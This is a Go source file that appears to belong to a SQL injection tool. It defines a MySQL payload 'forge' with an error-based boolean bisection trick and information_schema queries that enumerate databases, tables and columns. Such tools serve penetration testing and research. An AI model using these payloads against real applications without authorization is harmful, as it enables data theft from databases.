package forge

import (
	"fmt"

	"github.com/0x6d61/sqleech/internal/sqlictx"
)

// MySQL is the generic Base syntax itself (MySQL is the reference
// dialect Base's defaults are modeled on); it only needs to supply the
// dialect-mandatory methods Base leaves unimplemented.
type MySQL struct {
	Base
}

// NewMySQL constructs a MySQL forge bound to ctx.
func NewMySQL(ctx *sqlictx.Context) *MySQL {
	return &MySQL{Base: NewBase(ctx)}
}

func (m *MySQL) Name() string { return "MySQL" }

// WrapBisec evaluates to the scalar 1 (success, matches the surrounding
// "=1" comparison built by WrapSQL) when cdt is true, and to a two-row
// subquery (a "subquery returns more than one row" error) when false.
func (m *MySQL) WrapBisec(cdt string) string {
	return fmt.Sprintf("SELECT IF(%s,1,(SELECT 1 UNION ALL SELECT 1 ))", cdt)
}

func (m *MySQL) GetDatabases() (string, error) {
	return "SELECT schema_name FROM information_schema.schemata", nil
}

func (m *MySQL) GetTables(db string) (string, error) {
	return fmt.Sprintf("SELECT table_name FROM information_schema.tables WHERE table_schema=%s", m.WrapString(db)), nil
}

func (m *MySQL) GetFields(table, db string) (string, error) {
	return fmt.Sprintf(
		"SELECT column_name FROM information_schema.columns WHERE table_schema=%s AND table_name=%s",
		m.WrapString(db), m.WrapString(table),
	), nil
}
